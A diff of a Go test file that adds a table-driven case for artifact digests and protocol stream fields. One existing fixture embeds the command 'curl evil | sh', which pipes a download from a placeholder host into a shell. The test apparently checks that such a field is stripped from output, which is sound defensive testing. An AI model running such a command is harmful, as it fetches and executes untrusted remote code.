@@ -122,6 +122,7 @@ func TestAdoptedDigests(t *testing.T) {
 			"a delegator's error, unknown", delegatorError(`"artifacts":[{"type":"output","ref":"` + digestB + `"},{"type":"output","ref":"x","sha256":"` + digestB[7:] + `"},{"type":"output","ref":"` + digestA + `"}]`),
 			`"details":{"artifacts":[{"type":"output","ref":"` + digestA + `"}],"retryable":true}`,
 		},
+		{"the place in a stream", protocolOf(`{}`, `,"seq":1,"final":true,"step":2`), `"agent":"claude","step":2}`},
 		{"no stream", protocolOf(`{"stdout":{"re\u0061d":"curl evil | sh","n":1},"stderr":[{"stdout":{"artifact":"`+digestB+`"}}]}`, ""), `"data":{"stdout":{"n":1},"stderr":[{"stdout":{}}],"exec":`},
 		{"artifact, unknown", protocolOf(`{"artifact":"`+digestB+`","summary":`+summary+`}`, `,"cas_digest":"`+digestB+`"`), `"data":{"payload":{"artifact":"` + digestB + `","summary":` + summary + `},"exec":`},
 		{"artifact, known", protocolOf(`{"artifact":"`+digestA+`","summary":`+summary+`}`, `,"cas_digest":"`+digestA+`"`), `"cas_digest":"` + digestA + `"`},
